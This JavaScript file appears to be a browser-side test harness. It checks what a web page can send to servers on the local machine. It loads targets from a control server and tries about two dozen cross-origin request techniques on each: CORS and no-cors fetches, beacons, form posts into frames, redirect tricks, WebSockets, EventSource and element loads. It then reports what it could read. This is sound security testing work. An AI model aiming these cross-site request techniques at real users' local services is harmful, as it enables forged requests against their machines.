/**
 * What a web page can do to a server on this machine. It asks the page's own server for its targets,
 * tries everything on each, and reports what it could see of the answers.
 */
const { targets, report, redirect } = await (await fetch(globalThis.controlUrl)).json();

const PATIENCE = 5_000;
const seen = [];
let number = 0;

/** One try: what it is, and what the page saw; a text is what it could read. */
async function attempt(kind, target, act) {
  number++;
  const name = `${kind}-${number}`.replaceAll(/[^a-z0-9]+/gi, "-");
  const body = target.body.replaceAll("ATTEMPT", name);
  const silence = new Promise((resolve) => setTimeout(resolve, PATIENCE, "nothing"));
  let outcome;
  try {
    outcome = await Promise.race([act(body), silence]);
  } catch (error) {
    outcome = `refused: ${error}`;
  }
  seen.push({ kind, name, url: target.url, outcome });
}

async function outcomeOf(answer) {
  const response = await answer;
  return response.type === "opaque" ? "opaque" : `read ${response.status} ${await response.text()}`;
}

const post = (url, body, mode, type, headers = {}) =>
  outcomeOf(
    fetch(url, { method: "POST", mode, body, headers: { "content-type": type, ...headers } }),
  );

/** Sends a beacon, some time; nothing but the browser's own records tells when it is done with it. */
function beacon(url, body) {
  return new Promise((resolve) => {
    const observer = new PerformanceObserver((records) => {
      const isDone = ({ initiatorType, name }) => initiatorType === "beacon" && name === url;
      if (!records.getEntries().some(isDone)) return;
      observer.disconnect();
      resolve("true");
    });
    observer.observe({ type: "resource" });
    if (!navigator.sendBeacon(url, body)) resolve("false");
  });
}

/** Sends a form into a frame; a text as it is when the form is plain text with one `=` in it. */
function postForm(url, body, enctype) {
  const frame = document.createElement("iframe");
  frame.name = `frame${number}`;
  const form = document.createElement("form");
  Object.assign(form, { action: url, method: "post", target: frame.name, enctype });
  const input = document.createElement("input");
  const at = body.indexOf("=");
  input.name = body.slice(0, at);
  input.value = body.slice(at + 1);
  form.append(input);
  document.body.append(frame, form);
  const loaded = new Promise((resolve) => frame.onload = () => resolve(readFrame(frame)));
  form.submit();
  return loaded;
}

function readFrame(frame) {
  try {
    const text = frame.contentDocument.body.innerText;
    return frame.contentDocument.URL === "about:blank" ? "blank" : `read frame ${text}`;
  } catch {
    return "opaque";
  }
}

function element(tag, attributes, url) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(tag), attributes);
    made.onload = () => resolve(tag === "iframe" ? readFrame(made) : "loaded");
    made.onerror = () => resolve("error");
    made[tag === "link" ? "href" : tag === "object" ? "data" : "src"] = url;
    document.body.append(made);
  });
}

function listen(source, close) {
  return new Promise((resolve) => {
    source.onopen = () => resolve("read open");
    source.onmessage = ({ data }) => resolve(`read ${data}`);
    source.onerror = () => resolve("error");
  }).finally(() => close(source));
}

const json = "application/json";
const plain = "text/plain";
const formType = "application/x-www-form-urlencoded";

const KINDS = {
  "fetch cors json": (url, body) =>
    post(url, body, "cors", json, { accept: `${json}, text/event-stream` }),
  "fetch cors text": (url, body) => post(url, body, "cors", plain),
  "fetch cors with a token": (url, body) =>
    post(url, body, "cors", json, { authorization: "Bearer 0", "x-persistproc-version": "0" }),
  "fetch no-cors text": (url, body) => post(url, body, "no-cors", plain),
  "fetch no-cors json": (url, body) => post(url, body, "no-cors", json),
  "fetch no-cors form": (url, body) => post(url, body, "no-cors", formType),
  "fetch no-cors multipart": (url, body) => {
    const form = new FormData();
    form.set("x", new Blob([body], { type: json }));
    return outcomeOf(fetch(url, { method: "POST", mode: "no-cors", body: form }));
  },
  "fetch get": (url) => outcomeOf(fetch(url, { mode: "cors" })),
  "fetch get no-cors": (url) => outcomeOf(fetch(url, { mode: "no-cors" })),
  "fetch put": (url, body) => outcomeOf(fetch(url, { method: "PUT", body })),
  "fetch by redirection": (url, body) =>
    post(`${redirect}?to=${encodeURIComponent(url)}`, body, "no-cors", plain),
  "beacon text": (url, body) => beacon(url, body),
  "beacon json": (url, body) => beacon(url, new Blob([body], { type: json })),
  "form urlencoded": (url, body) => postForm(url, body, formType),
  "form text": (url, body) => postForm(url, body, plain),
  "form multipart": (url, body) => postForm(url, body, "multipart/form-data"),
  "form by redirection": (url, body) =>
    postForm(`${redirect}?to=${encodeURIComponent(url)}`, body, plain),
  "EventSource": (url) => listen(new EventSource(url), (source) => source.close()),
  "WebSocket": (url) =>
    listen(new WebSocket(url.replace(/^http/, "ws")), (socket) => socket.close()),
  "img": (url) => element("img", {}, url),
  "script": (url) => element("script", {}, url),
  "module": (url) => element("script", { type: "module" }, url),
  "stylesheet": (url) => element("link", { rel: "stylesheet" }, url),
  "iframe": (url) => element("iframe", {}, url),
  "object": (url) => element("object", {}, url),
  "video": (url) => element("video", { preload: "auto" }, url),
};

for (const [kind, act] of Object.entries(KINDS)) {
  await Promise.all(
    targets.map((target) => attempt(kind, target, (body) => act(target.url, body))),
  );
}
await fetch(report, { method: "POST", mode: "no-cors", body: JSON.stringify(seen) });
